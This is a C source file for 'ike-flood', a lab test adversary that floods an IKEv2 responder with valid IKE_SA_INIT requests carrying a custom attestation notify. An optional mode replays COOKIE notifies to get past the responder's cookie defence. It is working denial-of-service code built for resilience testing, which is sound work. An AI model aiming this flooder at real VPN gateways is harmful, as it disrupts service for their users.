/*
 * Copyright (C) 2026 ratkn developers
 *
 * This program is free software; you can redistribute it and/or modify it
 * under the terms of the GNU General Public License as published by the
 * Free Software Foundation; either version 2 of the License, or (at your
 * option) any later version.  See <http://www.fsf.org/copyleft/gpl.txt>.
 *
 * This program is distributed in the hope that it will be useful, but
 * WITHOUT ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
 * or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public License
 * for more details.
 */

/*
 * TEST ADVERSARY for testing/scenarios/ike-init-flood: a bounded,
 * rate-limited flood of well-formed IKEv2 IKE_SA_INIT requests, each with a
 * random SPI and nonce, a fresh X25519 KE payload and a valid
 * RATKN_NEGOTIATE notify (docs/protocol.md section 4) with a fresh X25519
 * share, a relying-party nonce and the flags ATTEST|VERIFY, so that a
 * ratkn responder answers it as it would answer a genuine peer.
 *
 * The sender never continues with IKE_AUTH: it is an unauthenticated peer.
 * With -C it answers COOKIE notifies (RFC 7296 2.6) by sending the request
 * again with the cookie, as an attacker whose source addresses are real can;
 * this gets past charon's cookie threshold to its per-IP limits.
 *
 * Standalone (OpenSSL only), built in the lab, never installed. At the end
 * it prints one line of counters, e.g.
 *   ike-flood: sent 2000 (+36 with cookie) in 2.0 s, received 1540:
 *   36 answered with RATKN_NEGOTIATE, 1504 COOKIE, 0 error, 0 other
 */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rand.h>

/** upper bounds: a flood, but a bounded one */
#define MAX_COUNT 100000
#define MAX_RATE 20000
#define MAX_SOURCES 64

/** IKEv2 numbers (RFC 7296, IANA) */
#define IKE_SA_INIT 34
#define FLAG_INITIATOR 0x08
#define FLAG_RESPONSE 0x20
#define PL_NONE 0
#define PL_SA 33
#define PL_KE 34
#define PL_NONCE 40
#define PL_NOTIFY 41
#define NOTIFY_COOKIE 16390
#define NOTIFY_ERROR_MAX 16383

/** ratkn (docs/protocol.md 4) */
#define RATKN_NOTIFY_NEGOTIATE 42241
#define RATKN_FLAGS (0x01 | 0x02)
#define RATKN_GROUP_X25519 31

/** a message under construction */
typedef struct {
	uint8_t buf[1024];
	size_t len;
} msg_t;

/** counters */
typedef struct {
	unsigned sent, sent_cookie, received, ratkn, cookie, error, other;
} stats_t;

static void put(msg_t *m, const void *data, size_t len)
{
	memcpy(m->buf + m->len, data, len);
	m->len += len;
}

static void put8(msg_t *m, uint8_t v)
{
	put(m, &v, 1);
}

static void put16(msg_t *m, uint16_t v)
{
	v = htons(v);
	put(m, &v, 2);
}

static void put32(msg_t *m, uint32_t v)
{
	v = htonl(v);
	put(m, &v, 4);
}

/**
 * Start a generic payload header, return where its length goes
 */
static size_t payload_start(msg_t *m, uint8_t next)
{
	size_t at = m->len;

	put8(m, next);
	put8(m, 0);
	put16(m, 0);
	return at;
}

static void payload_end(msg_t *m, size_t at)
{
	uint16_t len = htons(m->len - at);

	memcpy(m->buf + at + 2, &len, 2);
}

/**
 * A transform substructure (RFC 7296 3.3.2), key length attribute if keylen
 */
static void transform(msg_t *m, bool last, uint8_t type, uint16_t id,
					  uint16_t keylen)
{
	size_t at = m->len;
	uint16_t len;

	put8(m, last ? 0 : 3);
	put8(m, 0);
	put16(m, 0);
	put8(m, type);
	put8(m, 0);
	put16(m, id);
	if (keylen)
	{
		put16(m, 0x8000 | 14);
		put16(m, keylen);
	}
	len = htons(m->len - at);
	memcpy(m->buf + at + 2, &len, 2);
}

/**
 * A fresh X25519 public value
 */
static bool x25519_public(uint8_t pub[32])
{
	EVP_PKEY *key;
	size_t len = 32;
	bool ok;

	key = EVP_PKEY_Q_keygen(NULL, NULL, "X25519");
	if (!key)
	{
		return false;
	}
	ok = EVP_PKEY_get_raw_public_key(key, pub, &len) == 1 && len == 32;
	EVP_PKEY_free(key);
	return ok;
}

/**
 * Build an IKE_SA_INIT request with the given SPI, nonce and KE/share
 * values; with a cookie, N(COOKIE) comes first
 */
static void build(msg_t *m, const uint8_t spi[8], const uint8_t nonce[32],
				  const uint8_t ke[32], const uint8_t share[32],
				  const uint8_t rp_nonce[32], const uint8_t *cookie,
				  size_t cookie_len)
{
	size_t at, prop;
	uint32_t len;

	m->len = 0;
	put(m, spi, 8);
	put32(m, 0);
	put32(m, 0);
	put8(m, cookie ? PL_NOTIFY : PL_SA);
	put8(m, 0x20);
	put8(m, IKE_SA_INIT);
	put8(m, FLAG_INITIATOR);
	put32(m, 0);
	put32(m, 0);

	if (cookie)
	{
		at = payload_start(m, PL_SA);
		put8(m, 0);
		put8(m, 0);
		put16(m, NOTIFY_COOKIE);
		put(m, cookie, cookie_len);
		payload_end(m, at);
	}

	/* SA: aes256-sha256-x25519, the lab's IKE proposal */
	at = payload_start(m, PL_KE);
	prop = m->len;
	put8(m, 0);
	put8(m, 0);
	put16(m, 0);
	put8(m, 1);				/* proposal number */
	put8(m, 1);				/* protocol IKE */
	put8(m, 0);				/* SPI size */
	put8(m, 4);				/* transforms */
	transform(m, false, 1, 12, 256);	/* ENCR_AES_CBC 256 */
	transform(m, false, 2, 5, 0);		/* PRF_HMAC_SHA2_256 */
	transform(m, false, 3, 12, 0);		/* AUTH_HMAC_SHA2_256_128 */
	transform(m, true, 4, 31, 0);		/* curve25519 */
	payload_end(m, prop);
	payload_end(m, at);

	at = payload_start(m, PL_NONCE);
	put16(m, RATKN_GROUP_X25519);
	put16(m, 0);
	put(m, ke, 32);
	payload_end(m, at);

	at = payload_start(m, PL_NOTIFY);
	put(m, nonce, 32);
	payload_end(m, at);

	/* RATKN_NEGOTIATE: version 1, ATTEST|VERIFY, group 31, SHARE, NONCE,
	 * FORMATS tpm2-quote, MODELS background-check, passport */
	at = payload_start(m, PL_NONE);
	put8(m, 0);
	put8(m, 0);
	put16(m, RATKN_NOTIFY_NEGOTIATE);
	put8(m, 1);
	put8(m, RATKN_FLAGS);
	put16(m, RATKN_GROUP_X25519);
	put16(m, 1);
	put16(m, 32);
	put(m, share, 32);
	put16(m, 2);
	put16(m, 32);
	put(m, rp_nonce, 32);
	put16(m, 3);
	put16(m, 2);
	put16(m, 1);
	put16(m, 4);
	put16(m, 4);
	put16(m, 1);
	put16(m, 2);
	payload_end(m, at);

	len = htonl(m->len);
	memcpy(m->buf + 24, &len, 4);
}

/** what we keep of each request, to answer a COOKIE */
typedef struct {
	uint8_t spi[8];
	uint8_t nonce[32];
	uint8_t ke[32];
	uint8_t share[32];
	uint8_t rp_nonce[32];
	int sock;
	bool cookie_sent;
} request_t;

static request_t *requests;
static unsigned requests_count;
static bool answer_cookies;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/**
 * Classify a response; answer a COOKIE if asked to
 */
static void process(stats_t *stats, struct sockaddr_in *dst, uint8_t *buf,
					size_t len)
{
	uint8_t next, *pos, *cookie = NULL;
	uint16_t plen, type;
	size_t cookie_len = 0;
	bool ratkn = false, error = false;
	uint32_t index;
	request_t *req;
	msg_t m;

	if (len < 28 || buf[18] != IKE_SA_INIT || !(buf[19] & FLAG_RESPONSE))
	{
		return;
	}
	stats->received++;
	/* our SPIs carry the request's index in their last 4 octets */
	memcpy(&index, buf + 4, 4);
	index = ntohl(index);
	next = buf[16];
	pos = buf + 28;
	while (next != PL_NONE && pos + 4 <= buf + len)
	{
		memcpy(&plen, pos + 2, 2);
		plen = ntohs(plen);
		if (plen < 4 || pos + plen > buf + len)
		{
			break;
		}
		if (next == PL_NOTIFY && plen >= 8)
		{
			memcpy(&type, pos + 6, 2);
			type = ntohs(type);
			if (type == RATKN_NOTIFY_NEGOTIATE)
			{
				ratkn = true;
			}
			else if (type == NOTIFY_COOKIE)
			{
				cookie = pos + 8 + pos[5];
				cookie_len = plen - 8 - pos[5];
			}
			else if (type <= NOTIFY_ERROR_MAX)
			{
				error = true;
			}
		}
		next = pos[0];
		pos += plen;
	}
	if (ratkn)
	{
		stats->ratkn++;
	}
	else if (cookie)
	{
		stats->cookie++;
	}
	else if (error)
	{
		stats->error++;
	}
	else
	{
		stats->other++;
	}
	if (!ratkn && cookie && answer_cookies && index < requests_count &&
		cookie_len <= 64)
	{
		req = &requests[index];
		if (!req->cookie_sent && !memcmp(req->spi, buf, 8))
		{
			req->cookie_sent = true;
			build(&m, req->spi, req->nonce, req->ke, req->share,
				  req->rp_nonce, cookie, cookie_len);
			if (sendto(req->sock, m.buf, m.len, 0, (struct sockaddr*)dst,
					   sizeof(*dst)) == (ssize_t)m.len)
			{
				stats->sent_cookie++;
			}
		}
	}
}

/**
 * Receive everything pending on the sockets, waiting up to timeout ms
 */
static void receive(stats_t *stats, struct sockaddr_in *dst,
					struct pollfd *pfd, int count, int timeout)
{
	uint8_t buf[4096];
	ssize_t len;
	int i;

	if (poll(pfd, count, timeout) <= 0)
	{
		return;
	}
	for (i = 0; i < count; i++)
	{
		if (!(pfd[i].revents & POLLIN))
		{
			continue;
		}
		while ((len = recv(pfd[i].fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
		{
			process(stats, dst, buf, len);
		}
	}
}

static void usage(void)
{
	fprintf(stderr,
		"usage: ike-flood [-c COUNT] [-r RATE] [-s SRC[,SRC...]] [-p PORT]\n"
		"                 [-w SECONDS] [-C] DST\n"
		"  -c COUNT   IKE_SA_INIT requests to send (default 1000, at most %d)\n"
		"  -r RATE    requests per second (default 500, at most %d)\n"
		"  -s SRC,... IPv4 source addresses, used in turn (at most %d)\n"
		"  -p PORT    destination port (default 500)\n"
		"  -w SECONDS wait for responses after the last request (default 1)\n"
		"  -C         answer COOKIE notifies with the cookie\n",
		MAX_COUNT, MAX_RATE, MAX_SOURCES);
	exit(2);
}

int main(int argc, char *argv[])
{
	struct sockaddr_in dst = { .sin_family = AF_INET }, src;
	struct pollfd pfd[MAX_SOURCES];
	char *sources = NULL, *tok, *save = NULL;
	unsigned count = 1000, rate = 500, i;
	int nsock = 0, port = 500, opt;
	double wait = 1.0, start, end;
	stats_t stats = {};
	uint32_t index;
	request_t *req;
	msg_t m;

	while ((opt = getopt(argc, argv, "c:r:s:p:w:C")) != -1)
	{
		switch (opt)
		{
			case 'c':
				count = strtoul(optarg, NULL, 10);
				break;
			case 'r':
				rate = strtoul(optarg, NULL, 10);
				break;
			case 's':
				sources = optarg;
				break;
			case 'p':
				port = atoi(optarg);
				break;
			case 'w':
				wait = atof(optarg);
				break;
			case 'C':
				answer_cookies = true;
				break;
			default:
				usage();
		}
	}
	if (optind != argc - 1 || !count || count > MAX_COUNT || !rate ||
		rate > MAX_RATE || port <= 0 || port > 65535 || wait < 0 ||
		inet_pton(AF_INET, argv[optind], &dst.sin_addr) != 1)
	{
		usage();
	}
	dst.sin_port = htons(port);

	for (tok = sources ? strtok_r(sources, ",", &save) : NULL;
		 tok || (!sources && !nsock); tok = strtok_r(NULL, ",", &save))
	{
		if (nsock == MAX_SOURCES)
		{
			usage();
		}
		src = (struct sockaddr_in){ .sin_family = AF_INET };
		if (tok && inet_pton(AF_INET, tok, &src.sin_addr) != 1)
		{
			fprintf(stderr, "ike-flood: invalid source address '%s'\n", tok);
			return 1;
		}
		pfd[nsock].fd = socket(AF_INET, SOCK_DGRAM, 0);
		pfd[nsock].events = POLLIN;
		if (pfd[nsock].fd < 0 ||
			bind(pfd[nsock].fd, (struct sockaddr*)&src, sizeof(src)) < 0)
		{
			fprintf(stderr, "ike-flood: binding to %s failed: %s\n",
					tok ?: "any", strerror(errno));
			return 1;
		}
		nsock++;
		if (!tok)
		{
			break;
		}
	}

	requests = calloc(count, sizeof(request_t));
	if (!requests)
	{
		return 1;
	}
	requests_count = count;
	printf("ike-flood: sending %u IKE_SA_INIT requests with RATKN_NEGOTIATE "
		   "to %s:%d at %u/s from %d source address(es)%s\n", count,
		   argv[optind], port, rate, nsock,
		   answer_cookies ? ", answering cookies" : "");
	fflush(stdout);

	start = now();
	for (i = 0; i < count; i++)
	{
		req = &requests[i];
		index = htonl(i);
		if (RAND_bytes(req->spi, 4) != 1 ||
			RAND_bytes(req->nonce, sizeof(req->nonce)) != 1 ||
			RAND_bytes(req->rp_nonce, sizeof(req->rp_nonce)) != 1 ||
			!x25519_public(req->ke) || !x25519_public(req->share))
		{
			fprintf(stderr, "ike-flood: OpenSSL failed\n");
			return 1;
		}
		memcpy(req->spi + 4, &index, 4);
		req->sock = pfd[i % nsock].fd;
		build(&m, req->spi, req->nonce, req->ke, req->share, req->rp_nonce,
			  NULL, 0);
		if (sendto(req->sock, m.buf, m.len, 0, (struct sockaddr*)&dst,
				   sizeof(dst)) == (ssize_t)m.len)
		{
			stats.sent++;
		}
		/* pace: request i leaves at start + i / rate */
		while (now() < start + (double)(i + 1) / rate)
		{
			receive(&stats, &dst, pfd, nsock, 1);
		}
	}
	end = now();
	while (now() < end + wait)
	{
		receive(&stats, &dst, pfd, nsock, 10);
	}
	printf("ike-flood: sent %u (+%u with cookie) in %.1f s, received %u: "
		   "%u answered with RATKN_NEGOTIATE, %u COOKIE, %u error, %u other\n",
		   stats.sent, stats.sent_cookie, end - start, stats.received,
		   stats.ratkn, stats.cookie, stats.error, stats.other);
	for (i = 0; i < (unsigned)nsock; i++)
	{
		close(pfd[i].fd);
	}
	free(requests);
	return stats.sent == count ? 0 : 1;
}
